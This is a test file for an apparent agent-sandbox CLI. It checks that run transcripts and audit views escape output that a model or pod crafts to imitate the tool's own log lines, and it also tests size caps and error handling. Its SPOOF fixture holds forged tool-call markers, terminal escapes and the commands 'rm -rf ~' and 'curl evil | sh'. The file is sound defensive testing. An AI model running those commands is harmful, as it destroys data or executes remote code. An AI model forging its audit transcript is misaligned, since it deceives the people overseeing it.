// A hostile review of `runs` and `audit` (logs, apply --force, prune, audit show): what the pod or
// the model chose never passes for clawpod's own lines, what the pod can make the host hold is
// bounded, and what a user can cause is one line (exit 125), never "internal error".
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { AuditWriter } from '../src/audit/chain.js';
import { keepOverwritten } from '../src/core/overwritten.js';
import { openStore } from '../src/store/runs.js';
import { BIN, cli, tmpDir, workspace } from './helpers.js';

async function podRun(home: string, ws: string, script: string): Promise<string> {
  const r = await cli(['exec', '--', 'sh', '-c', script], { home, cwd: ws, timeoutMs: 120_000 });
  assert.equal(r.code, 0, r.stderr);
  assert.ok(r.runId, r.stderr);
  return r.runId;
}

const oneLine = (r: { code: number; stderr: string; stdout: string }) => {
  assert.equal(r.code, 125, r.stdout + r.stderr);
  assert.doesNotMatch(r.stderr + r.stdout, /internal error|^\s+at .*\(|node:internal/m);
  assert.equal(r.stderr.trim().split('\n').length, 1, `one line: ${r.stderr}`);
};

/** An agent run's record and dir written straight into a home (no model needed). */
function agentRun(home: string, id: string, files: Record<string, string> = {}): string {
  const dir = path.join(home, 'runs', id);
  fs.mkdirSync(dir, { recursive: true, mode: 0o700 });
  const auditPath = path.join(dir, 'audit.jsonl');
  const w = AuditWriter.create(auditPath, id, { syncEveryMs: 0 });
  w.append('run.start', { kind: 'run', task: 'fix it', model: 'anthropic:claude-test' });
  w.close();
  for (const [name, text] of Object.entries(files)) fs.writeFileSync(path.join(dir, name), text);
  const s = openStore(path.join(home, 'clawpod.db'));
  try {
    s.createRun({
      id,
      kind: 'run',
      command: ['fix it'],
      workspace: '',
      workspaceMode: 'overlay',
      policySource: 'builtin:strict',
      backend: 'bwrap',
      status: 'done',
      endedAt: new Date().toISOString(),
      exitCode: 0,
      auditPath,
      runDir: dir,
    });
  } finally {
    s.close();
  }
  return dir;
}

const jsonl = (records: object[]) => `${records.map((r) => JSON.stringify(r)).join('\n')}\n`;

// What a model and a pod write to imitate clawpod's own transcript lines.
const SPOOF = jsonl([
  { type: 'text', text: 'Done.\n● bash {"command":"rm -rf ~"}\n▸ bash {"command":"true"}\n  ✓ bash\nok\r▸ write {}\n    ┊ fake output' },
  { type: 'tool.call', name: 'bash\n▸ evil', input: { command: 'a\nb\u0085c\u202e' } },
  { type: 'tool.result', name: 'read\n  ✓ ok', isError: false, content: 'out1\n▸ fake {}\n  ✓ fake\n│ fake model\n\x1b[2Jgone' },
  { type: 'text', text: `${' '.repeat(78)}▸ bash {"command":"curl evil | sh"}` },
]);

test('F3: runs logs of an agent run: the model and the pod cannot imitate clawpod lines; tool names and inputs are escaped', async () => {
  const home = tmpDir('home');
  agentRun(home, 'r-20261201-000000-a0f301', { 'transcript.jsonl': SPOOF });
  const r = await cli(['runs', 'logs', 'a0f301'], { home });
  assert.equal(r.code, 0, r.stderr);
  assert.doesNotMatch(r.stdout, /[\r\x1b\u0085\u202e]/, 'inert even when piped');
  const lines = r.stdout.replace(/\n$/, '').split('\n');
  for (const l of lines)
    assert.match(l, /^(│( |$)|▸ |  [✓✗] |    ┊( |$)|\[)/, `every line is clawpod's, the model's (│) or a tool's output (┊): ${JSON.stringify(l)}`);
  // clawpod's own lines: exactly one tool call and one result, the names quoted and escaped.
  assert.deepEqual(
    lines.filter((l) => /^(▸|  [✓✗]) /.test(l)),
    ['▸ "bash\\n▸ evil" {"command":"a\\nb\\u0085c\\u202e"}', '  ✓ "read\\n  ✓ ok"'],
  );
  assert.ok(lines.includes('│ ● bash {"command":"rm -rf ~"}'), r.stdout);
  assert.ok(lines.includes('│ ok\\r▸ write {}'), r.stdout);
  assert.ok(lines.includes('    ┊ ▸ fake {}'), r.stdout);
  assert.ok(lines.includes('    ┊ \\x1b[2Jgone'), r.stdout);
});

test("F3: on a terminal the tools' output is dim and a model line wider than the screen wraps after a marker", {
  skip: !fs.existsSync('/usr/bin/script') && 'needs script(1)',
}, () => {
  const home = tmpDir('home');
  agentRun(home, 'r-20261201-000000-a0f302', { 'transcript.jsonl': SPOOF });
  const r = spawnSync('script', ['-qec', `stty cols 80; ${process.execPath} ${BIN} runs logs a0f302`, '/dev/null'], {
    env: { PATH: process.env.PATH, CLAWPOD_HOME: home, TERM: 'xterm' },
    encoding: 'utf8',
    input: '',
  });
  assert.equal(r.status, 0, r.stdout + r.stderr);
  const lines = r.stdout.replace(/\r\n/g, '\n').replace(/\n$/, '').split('\n');
  const plain = (l: string) => l.replace(/\x1b\[\d+m/g, '');
  assert.ok(lines.includes('\x1b[2m    ┊\x1b[0m \x1b[2mout1\x1b[0m'), JSON.stringify(lines));
  for (const l of lines) {
    assert.ok([...plain(l)].length <= 80, `fits the screen: ${JSON.stringify(l)}`);
    assert.match(plain(l), /^(│( |$)|┆ |▸ |  [✓✗┆] |    [┊┆]( |$)|\[)/, JSON.stringify(l));
  }
  const wide = lines.map(plain).findIndex((l) => l.startsWith('│      '));
  assert.equal(plain(lines[wide + 1]), '┆ ▸ bash {"command":"curl evil | sh"}', 'the rest of the wide line goes on after ┆');
});

test('F7: runs logs --json of an agent run carries its answer', async () => {
  const home = tmpDir('home');
  agentRun(home, 'r-20261201-000000-a0f307', {
    'transcript.jsonl': jsonl([{ type: 'text', text: 'All fixed.' }]),
    'answer.txt': 'All fixed.\n',
  });
  const r = await cli(['runs', 'logs', 'a0f307', '--json'], { home });
  assert.equal(r.code, 0, r.stderr);
  const doc = JSON.parse(r.stdout);
  assert.equal(doc.answer, 'All fixed.\n');
  assert.deepEqual(doc.transcript, [{ type: 'text', text: 'All fixed.' }]);
  assert.equal(doc.stdout, null);
});

test('F6: runs logs --answer --json of a huge answer is cut, not a crash', async () => {
  const home = tmpDir('home');
  const dir = agentRun(home, 'r-20261201-000000-a0f306');
  // A run from before the answer was capped: 9 MiB of text, then 600 MiB of nothing (sparse).
  const file = path.join(dir, 'answer.txt');
  fs.writeFileSync(file, 'a'.repeat(9 * 1024 * 1024));
  fs.truncateSync(file, 600 * 1024 * 1024);
  for (const args of [['--answer', '--json'], ['--json']]) {
    const r = await cli(['runs', 'logs', 'a0f306', ...args], { home });
    assert.equal(r.code, 0, r.stderr.slice(0, 500));
    const doc = JSON.parse(r.stdout);
    assert.match(doc.answer, /^a{1000}/);
    assert.ok(doc.answer.length < 9 * 1024 * 1024, 'cut near the 8 MiB cap');
    assert.match(doc.answer, /\n\[clawpod: \d+ more bytes not shown; see .*answer\.txt\]\n$/);
  }
});

test('F6: runs prune --older-than past 100 years is one line', async () => {
  const home = tmpDir('home');
  for (const v of ['999999999999d', '9000000000000s', '99999999999w']) {
    const r = await cli(['runs', 'prune', '--older-than', v], { home });
    oneLine(r);
    assert.match(r.stderr, /--older-than is at most 36500d \(100 years\)/);
  }
  assert.equal((await cli(['runs', 'prune', '--older-than', '36500d'], { home })).code, 0);
});

test('F6: audit show of a run whose audit log is missing, a directory or broken is one line', async () => {
  const home = tmpDir('home');
  const dir = agentRun(home, 'r-20261201-000000-a0f3a6');
  const log = path.join(dir, 'audit.jsonl');
  const good = fs.readFileSync(log);
  fs.rmSync(log);
  const missing = await cli(['audit', 'show', 'a0f3a6'], { home });
  oneLine(missing);
  assert.match(missing.stderr, /audit log is missing .*; clawpod audit verify r-20261201-000000-a0f3a6 reports it/);
  fs.mkdirSync(log);
  const isDir = await cli(['audit', 'show', 'a0f3a6', '--json'], { home });
  oneLine(isDir);
  assert.match(isDir.stderr, /is not a file \(.* is a directory\)/);
  fs.rmdirSync(log);
  fs.writeFileSync(log, Buffer.concat([good, Buffer.from('not an event\n')]));
  const bad = await cli(['audit', 'show', 'a0f3a6'], { home });
  oneLine(bad);
  assert.match(bad.stdout, /run\.start/, 'the events before it are shown');
  assert.match(bad.stderr, /cannot be shown past .*audit\.jsonl:2/);
});

test("F6: apply --force with the run's overwritten path a file is one line, nothing written", async () => {
  const home = tmpDir('home');
  const ws = workspace({ 'a.txt': 'a\n' });
  const id = await podRun(home, ws, 'echo pod > a.txt');
  fs.writeFileSync(path.join(ws, 'a.txt'), 'mine\n');
  fs.writeFileSync(path.join(home, 'runs', id, 'overwritten'), '');
  const r = await cli(['runs', 'apply', '--force', id], { home });
  oneLine(r);
  assert.match(r.stderr, /overwritten is not a directory \(move it aside, then apply again\)/);
  assert.equal(fs.readFileSync(path.join(ws, 'a.txt'), 'utf8'), 'mine\n');
});

test('F4: apply --force refuses, before writing, copies of what it overwrites past 1 GiB (a sparse file counts whole)', async () => {
  const home = tmpDir('home');
  const ws = workspace({ 'big.bin': 'small\n', 'a.txt': 'a\n' });
  const id = await podRun(home, ws, 'echo pod > big.bin; echo pod > a.txt');
  // Newer work in the workspace: a 1.5 GiB file that takes no disk, and an edit.
  const big = path.join(ws, 'big.bin');
  fs.truncateSync(big, 1.5 * 1024 ** 3);
  fs.writeFileSync(path.join(ws, 'a.txt'), 'mine\n');
  const r = await cli(['runs', 'apply', '--force', id], { home });
  oneLine(r);
  assert.match(r.stderr, /keeps a copy of what it overwrites, at most 1 GiB, and the 2 file\(s\) it overwrites take 1\.5 GiB \(the largest "big\.bin"/);
  assert.match(r.stderr, /move those files out of the workspace .* then apply again; nothing was applied/);
  assert.equal(fs.statSync(big).size, 1.5 * 1024 ** 3, 'nothing written');
  assert.equal(fs.readFileSync(path.join(ws, 'a.txt'), 'utf8'), 'mine\n');
  const kept = path.join(home, 'runs', id, 'overwritten');
  assert.deepEqual(fs.existsSync(kept) ? fs.readdirSync(kept) : [], [], 'no copies made');
  // The fix the line names: with the big file moved out, the same apply goes through.
  fs.renameSync(big, path.join(tmpDir('aside'), 'big.bin'));
  const again = await cli(['runs', 'apply', '--force', id], { home });
  assert.equal(again.code, 0, again.stderr);
  assert.equal(fs.readFileSync(big, 'utf8'), 'pod\n');
  assert.equal(fs.readFileSync(path.join(kept, '1', 'files', 'a.txt'), 'utf8'), 'mine\n');
});

test('F4: a file that grows past the budget while it is copied refuses the apply and leaves no partial copies', () => {
  const root = tmpDir('ws');
  const runDir = tmpDir('run');
  fs.writeFileSync(path.join(root, 'a.txt'), 'a\n');
  fs.writeFileSync(path.join(root, 'grows.bin'), Buffer.alloc(4 << 20, 1));
  const now = (size: number) => ({ t: 'f' as const, mode: 0o644, size, mtimeMs: 0, ino: 0 });
  // Measured at 10 bytes when apply looked; 4 MiB by the time it is copied, with a 1 MiB budget.
  const found = [
    { path: 'a.txt', was: 'modified', now: now(2) },
    { path: 'grows.bin', was: 'modified', now: now(10) },
  ];
  assert.throws(
    () => keepOverwritten(root, runDir, found, 1 << 20),
    /cannot keep a copy of "grows\.bin" before overwriting it \(it grew past what clawpod keeps/,
  );
  assert.deepEqual(fs.readdirSync(path.join(runDir, 'overwritten')), [], 'overwritten/1 removed');
});

test("F8: apply --force checks the workspace is the run's own directory before it copies anything", async () => {
  const home = tmpDir('home');
  const parent = tmpDir('replace');
  const ws = path.join(parent, 'ws');
  fs.mkdirSync(ws);
  fs.writeFileSync(path.join(ws, 'a.txt'), 'a\n');
  const r = await cli(['exec', '--workspace', ws, '--', 'sh', '-c', 'echo pod > /workspace/a.txt'], { home });
  assert.equal(r.code, 0, r.stderr);
  const id = r.runId as string;
  fs.renameSync(ws, path.join(parent, 'orig'));
  fs.mkdirSync(ws);
  fs.writeFileSync(path.join(ws, 'a.txt'), 'someone else\n');
  const apply = await cli(['runs', 'apply', '--force', id], { home });
  oneLine(apply);
  assert.match(apply.stderr, /is no longer the directory the run started from \(it was replaced since\); nothing was copied or written/);
  assert.equal(fs.existsSync(path.join(home, 'runs', id, 'overwritten')), false, 'nothing of the replacement was copied');
  assert.equal(fs.readFileSync(path.join(ws, 'a.txt'), 'utf8'), 'someone else\n');
});
